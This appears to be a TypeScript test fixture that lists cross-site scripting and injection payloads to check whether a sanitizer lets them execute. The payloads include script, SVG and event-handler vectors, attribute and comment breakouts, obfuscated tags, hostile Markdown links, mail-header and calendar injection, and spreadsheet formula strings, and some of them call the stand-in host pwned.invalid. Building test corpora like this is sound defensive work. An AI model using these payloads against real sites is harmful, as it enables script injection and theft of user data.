/**
 * What has run as script, or drawn what nobody meant, in other sites. Whatever runs calls `__pwned`;
 * whatever is drawn has the class `pwned` or asks `pwned.invalid` for something.
 */
const run = 'window.__pwned=1';

/** Fits a title, and leaves any attribute. */
export const shortest = `'"><img class=pwned src=x>`;

/** In one line, as a title or a place is. */
export const oneLiners: readonly string[] = [
  // Script, and elements that run one by themselves.
  `<script class=pwned>${run}</script>`,
  `"><ScRiPt/class=pwned src=//pwned.invalid/a.js></sCrIpT>`,
  `<img class=pwned src=x onerror=${run}>`,
  `'><img class=pwned src=x:x onerror='${run}'>`,
  `<svg class=pwned/onload=${run}>`,
  `<svg class=pwned><animate onbegin=${run} attributeName=x></svg>`,
  `<svg class=pwned><use href="data:image/svg+xml,<svg onload=${run}>#x"/></svg>`,
  `<math class=pwned><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img class=pwned src=x onerror=${run}>`,
  `<iframe class=pwned srcdoc="<script>top.__pwned=1</script>">`,
  `<object class=pwned data="data:text/html,<script>${run}</script>">`,
  `<details class=pwned open ontoggle=${run}>`,
  `<video class=pwned><source onerror=${run}></video>`,
  `<form class=pwned action=//pwned.invalid><button formaction="javascript:${run}">`,
  `<meta class=pwned http-equiv=refresh content="0;url=//pwned.invalid">`,
  `<base class=pwned href=//pwned.invalid/>`,
  `<link class=pwned rel=stylesheet href=//pwned.invalid/a.css>`,
  `<style class=pwned>@import "//pwned.invalid/b.css";</style>`,
  // Out of an attribute, an element, a comment or a block of data.
  `" autofocus onfocus=${run} class="pwned`,
  `' onmouseover=${run} class='pwned`,
  `\` onclick=${run} class=pwned x=\``,
  `</title></textarea></style></script><img class=pwned src=x onerror=${run}>`,
  `--><img class=pwned src=x onerror=${run}><!--`,
  `]]><script class=pwned>${run}</script><![CDATA[`,
  `</script><script class=pwned>${run}//`,
  `';${run};'";${run};"`,
  // What a template or a format of strings would run.
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}}`,
  // Entities, other alphabets and characters that hide.
  `&lt;img class=pwned src=x onerror=${run}&gt;`,
  `&#60;img class=pwned src=x onerror=${run}&#x3e;`,
  `\\u003cimg class=pwned src=x onerror=${run}\\u003e`,
  `\uFF1Cimg class=pwned src=x onerror=${run}\uFF1E`,
  `<\uFEFFimg class=pwned src=x onerror=${run}>`,
  `<img\u2028class=pwned src=x onerror=${run}>`,
  // Markdown: links and pictures that run, ask elsewhere or leave their attribute.
  `[a](javascript:${run}) [b](JaVa&#115;cript:${run})`,
  `[c](data:text/html;base64,PHNjcmlwdD4) [d](vbscript:${run})`,
  `![e](javascript:${run}) ![f](//pwned.invalid/c.png) ![g](https://pwned.invalid/d.png)`,
  `![h" class="pwned" onerror="${run}](https://pwned.invalid/"onload="${run})`,
  `<javascript:${run}> <https://pwned.invalid/"onclick="${run}>`,
  // Heads of mails and lines of calendars, and what a table reckons.
  `a\\r\\nBCC: x@pwned.invalid%0d%0aATTACH:https://pwned.invalid/e`,
  `=HYPERLINK("https://pwned.invalid","x") @SUM(1) +1 -1|cmd`,
];

/** What needs lines of its own. */
export const blocks: readonly string[] = [
  `<div class=pwned onclick=${run}>\n\n**x**\n\n</div>`,
  `[x]: javascript:${run} "y"\n\n[x]`,
  `\`\`\`"><img class=pwned src=x onerror=${run}>\n</code></pre><script class=pwned>${run}</script>\n\`\`\``,
  `|a|\n|:-:|\n|<svg class=pwned onload=${run}>|`,
  `DESCRIPTION:x\r\nATTACH:https://pwned.invalid/f\r\nEND:VEVENT`,
];

/** An address that its field takes, and that would leave an attribute if it were not quoted. */
export const addresses: readonly string[] = [
  `https://pwned.invalid/"onclick="${run}"class="pwned`,
  `https://pwned.invalid/'onclick='${run}'class='pwned`,
  `https://pwned.invalid/?a=<img class=pwned src=x onerror=${run}>#javascript:${run}`,
];
